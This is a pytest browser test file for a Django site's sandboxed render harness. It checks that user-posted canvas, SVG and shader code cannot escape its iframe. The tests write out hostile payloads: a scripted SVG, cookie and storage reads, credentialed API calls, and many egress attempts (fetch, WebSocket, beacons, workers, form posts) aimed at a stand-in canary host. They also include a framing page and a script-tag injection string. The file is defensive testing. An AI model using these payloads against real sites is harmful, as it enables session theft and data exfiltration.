"""Hostile posts: every escape from the render harness is tried in a real Chromium, and none lands.

The harness is framed the way the post page frames it (`<iframe sandbox="allow-scripts">` on the
site's origin), by a viewer who is signed in. A canary HTTP server on another loopback port stands
for "any other host" and must receive nothing.
"""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.conf import settings
from django.core.signals import request_started

from posts.tests.render_helpers import EMBED_PATH, embed, make_post, near, open_render, render_url, screenshot

pytestmark = pytest.mark.browser


class CanaryHandler(BaseHTTPRequestHandler):
    def answer(self):
        self.server.requests.append(f"{self.command} {self.path}")
        page = self.server.pages.get(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html" if page else "text/plain")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(page.encode() if page else b"canary")

    do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = answer

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def canary_server():
    server = ThreadingHTTPServer(("127.0.0.1", 0), CanaryHandler)
    server.requests = []
    server.pages = {}  # path -> HTML, for a page on this other origin
    server.url = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def canary(canary_server):
    canary_server.requests.clear()
    return canary_server


@pytest.fixture
def server_requests():
    """(path, carried the session cookie) for every request that reached Django."""
    seen = []

    def record(sender, environ, **kwargs):
        cookies = environ.get("HTTP_COOKIE", "")
        seen.append((environ["PATH_INFO"], f"{settings.SESSION_COOKIE_NAME}=" in cookies))

    request_started.connect(record)
    yield seen
    request_started.disconnect(record)


@pytest.fixture
def signed_in(page, live_server, client, django_user_model):
    """The browser holds a real session cookie for the site, as a signed-in viewer's would."""
    user = django_user_model.objects.create(username="viewer")  # force_login needs no (slow) password hash
    client.force_login(user)
    session = client.cookies[settings.SESSION_COOKIE_NAME].value
    page.context.add_cookies(
        [
            {
                "name": settings.SESSION_COOKIE_NAME,
                "value": session,
                "url": live_server.url,
                "httpOnly": True,
                "sameSite": "Lax",
            }
        ]
    )
    return user


def settled_attempts(frame):
    """Wait for the post's own promise of attempts, then a little for any request still in flight."""
    frame.evaluate("window.attempted")
    frame.page.wait_for_timeout(300)


def test_code_cannot_retitle_the_top_page(live_server, page):
    frame = embed(page, live_server, make_post("canvas", "top.document.title = 'pwned';"))
    assert page.title() == "the site"
    error = frame.evaluate("__render.error")
    assert error["kind"] == "exception"
    assert "SecurityError" in error["message"]


def test_code_cannot_set_or_read_the_parents_globals(live_server, page):
    code = """window.results = [];
for (const attempt of [() => { parent.x = 1; }, () => parent.document.body, () => parent.localStorage]) {
  try { attempt(); results.push("reached"); } catch (e) { results.push(e.name); }
}"""
    frame = embed(page, live_server, make_post("canvas", code))
    assert frame.evaluate("window.results") == ["SecurityError"] * 3
    assert page.evaluate("'x' in window") is False


def test_code_cannot_use_the_viewers_cookie_storage_or_api(live_server, page, signed_in, server_requests):
    code = """window.results = {};
const attempt = (name, fn) => {
  try { results[name] = "read " + String(fn()); } catch (e) { results[name] = e.name; }
};
attempt("cookie", () => document.cookie);
attempt("localStorage", () => localStorage.getItem("token"));
attempt("sessionStorage", () => sessionStorage.length);
attempt("indexedDB", () => indexedDB.open("site"));
const xhr = () => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest();
  request.open("GET", "/api/posts");
  request.withCredentials = true;
  request.onload = resolve;
  request.onerror = reject;
  request.send();
});
window.attempted = Promise.allSettled([
  fetch("/api/posts", { credentials: "include" }),
  fetch("/api/posts", { method: "POST", credentials: "include", body: "{}" }),
  xhr(),
]).then((outcomes) => outcomes.map((outcome) => outcome.status));
"""
    post = make_post("canvas", code)
    frame = embed(page, live_server, post)
    assert frame.evaluate("window.attempted") == ["rejected"] * 3
    page.wait_for_timeout(300)
    assert frame.evaluate("window.results") == dict.fromkeys(
        ["cookie", "localStorage", "sessionStorage", "indexedDB"], "SecurityError"
    )
    assert not [path for path, _ in server_requests if path.startswith("/api/")]
    # Only the harness document itself is requested with the viewer's cookie (a same-site iframe
    # navigation); nothing the code or the harness loads after it carries the cookie.
    assert [path for path, cookie in server_requests if cookie] == [f"/posts/{post.pk}/render"]


def test_code_cannot_open_dialogs_on_the_top_page(live_server, page):
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    code = "alert('hi'); confirm('sure?'); prompt('name?'); print(); window.done = true;"
    frame = embed(page, live_server, make_post("canvas", code))
    assert frame.evaluate("window.done") is True
    assert frame.evaluate("__render.status") == "ready"
    assert dialogs == []


def test_code_cannot_navigate_the_top_page_or_open_windows(live_server, page, canary):
    code = f"""window.results = [];
for (const attempt of [
  () => {{ top.location = "{canary.url}/top"; }},
  () => {{ top.location.href = "{canary.url}/top-href"; }},
  () => top.location.replace("{canary.url}/top-replace"),
  () => window.open("{canary.url}/popup"),
]) {{
  try {{ results.push(String(attempt())); }} catch (e) {{ results.push(e.name); }}
}}
window.attempted = true;"""
    frame = embed(page, live_server, make_post("canvas", code))
    settled_attempts(frame)
    assert page.url == live_server.url + EMBED_PATH
    assert page.title() == "the site"
    assert len(page.context.pages) == 1
    assert frame.evaluate("window.results") == ["SecurityError", "SecurityError", "SecurityError", "null"]
    assert canary.requests == []


def hostile_svg(canary_url):
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"
     onload="fetch('{canary_url}/onload'); top.document.title = 'pwned'">
  <script>fetch("{canary_url}/script"); top.document.title = "pwned";</script>
  <style>@import url("{canary_url}/import.css"); .bg {{ fill: #33aa33; }}</style>
  <a xlink:href="javascript:fetch('{canary_url}/javascript-link')">
    <rect class="bg" width="100" height="100" onclick="fetch('{canary_url}/onclick')"/>
  </a>
  <a href="{canary_url}/link"><circle cx="50" cy="50" r="5" fill="#33aa33"/></a>
  <image href="{canary_url}/image.png" width="10" height="10"/>
  <use href="{canary_url}/sprite.svg#shape"/>
  <foreignObject width="10" height="10">
    <img xmlns="http://www.w3.org/1999/xhtml" src="{canary_url}/foreign.png"/>
  </foreignObject>
</svg>"""


@pytest.mark.parametrize("mode", ["live", "capture"])
def test_svg_scripts_handlers_and_links_never_run(live_server, page, canary, mode):
    frame = embed(page, live_server, make_post("svg", hostile_svg(canary.url)), mode=mode)
    assert frame.evaluate("__render.status") == "ready"
    page.mouse.click(320, 240)  # on the javascript: link, the onclick rect and the plain link
    page.mouse.click(330, 250)
    page.wait_for_timeout(300)
    assert canary.requests == []
    assert page.title() == "the site"
    assert frame.url.startswith(live_server.url)  # the frame was not navigated by a link either
    assert near(screenshot(page.locator("#render")).getpixel((100, 100)), (0x33, 0xAA, 0x33))


def egress_attempts(canary_url):
    host = canary_url.removeprefix("http://")
    return f"""const CANARY = "{canary_url}";
const pending = [];
const attempt = (fn) => {{
  try {{
    const result = fn();
    if (result && typeof result.then === "function") pending.push(result);
  }} catch (e) {{}}
}};
const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
attempt(() => fetch(CANARY + "/fetch", {{ mode: "no-cors" }}));
attempt(() => {{ const xhr = new XMLHttpRequest(); xhr.open("GET", CANARY + "/xhr"); xhr.send(); }});
attempt(() => {{ new Image().src = CANARY + "/image"; }});
attempt(() => new WebSocket("ws://{host}/websocket"));
attempt(() => navigator.sendBeacon(CANARY + "/beacon", "data"));
attempt(() => new EventSource(CANARY + "/eventsource"));
attempt(() => add("link", {{ rel: "stylesheet", href: CANARY + "/style.css" }}));
attempt(() => add("link", {{ rel: "prefetch", href: CANARY + "/prefetch" }}));
// The post runs with the page's nonce and can read it: a second CSP policy stops other hosts.
attempt(() => add("script", {{ nonce: document.currentScript.nonce, src: CANARY + "/script.js" }}));
attempt(() => import(CANARY + "/module.js"));
attempt(() => add("iframe", {{ src: CANARY + "/iframe" }}));
attempt(() => add("style", {{ textContent: `@import url("${{CANARY}}/import.css");` }}));
attempt(() => add("style", {{ textContent: `body {{ background: url("${{CANARY}}/bg.png"); }}` }}));
attempt(() => new FontFace("canary", `url(${{CANARY}}/font.woff)`).load());
attempt(() => new Worker(CANARY + "/worker.js"));
attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch("${{CANARY}}/from-worker")`]))));
attempt(() => add("video", {{ src: CANARY + "/video.mp4", autoplay: true }}));
attempt(() => add("object", {{ data: CANARY + "/object" }}));
attempt(() => add("form", {{ action: CANARY + "/form", method: "post" }}).submit());
attempt(() => navigator.serviceWorker.register(CANARY + "/sw.js"));
window.attempted = Promise.allSettled(pending).then(() => true);
"""


@pytest.mark.parametrize("mode", ["live", "capture"])
def test_code_cannot_reach_another_host(live_server, page, canary, mode):
    frame = embed(page, live_server, make_post("canvas", egress_attempts(canary.url)), mode=mode)
    settled_attempts(frame)
    assert canary.requests == []


def test_harness_opened_directly_still_runs_in_an_opaque_origin(live_server, page, signed_in, server_requests):
    code = """window.checks = { origin: self.origin };
for (const [name, read] of [["cookie", () => document.cookie], ["storage", () => localStorage.length]]) {
  try { read(); checks[name] = "readable"; } catch (e) { checks[name] = e.name; }
}
window.attempted = fetch("/api/posts", { credentials: "include" }).then(() => "fetched", () => "blocked");
"""
    open_render(page, live_server, make_post("canvas", code))
    assert page.evaluate("window.checks") == {"origin": "null", "cookie": "SecurityError", "storage": "SecurityError"}
    assert page.evaluate("window.attempted") == "blocked"
    assert not [path for path, _ in server_requests if path.startswith("/api/")]


def test_harness_cannot_be_framed_by_another_site(live_server, page, canary):
    post = make_post("canvas", "")
    canary.pages["/evil"] = f'<!doctype html><title>evil</title><iframe src="{render_url(live_server, post)}"></iframe>'
    page.goto(canary.url + "/evil")
    frame = page.locator("iframe").element_handle().content_frame()
    page.wait_for_timeout(300)
    assert not frame.url.startswith(live_server.url)  # Chromium shows its error page instead
    assert frame.evaluate("typeof window.__render") == "undefined"


CLOSING_TAG = "</script><script>window.pwned = 1</script>"


@pytest.mark.parametrize(
    ("render_model", "code", "status"),
    [
        ("canvas", CLOSING_TAG, "error"),  # not JavaScript: a syntax error, and nothing else
        ("canvas", f"// {CLOSING_TAG}\nctx.fillRect(0, 0, width, height);", "ready"),
        (
            "svg",
            f'<svg xmlns="http://www.w3.org/2000/svg"><text y="15"><![CDATA[{CLOSING_TAG}]]></text></svg>',
            "ready",
        ),
        ("shader", f"// {CLOSING_TAG}\nvoid main() {{ gl_FragColor = vec4(1.0); }}", "ready"),
    ],
    ids=["canvas-raw", "canvas-comment", "svg-text", "shader-comment"],
)
def test_closing_script_tag_in_the_code_is_only_text(live_server, page, render_model, code, status):
    state = open_render(page, live_server, make_post(render_model, code))
    assert state["status"] == status
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("document.getElementById('post-data').textContent.includes('</script>')") is False
    assert page.evaluate("JSON.parse(document.getElementById('post-data').textContent).code") == code
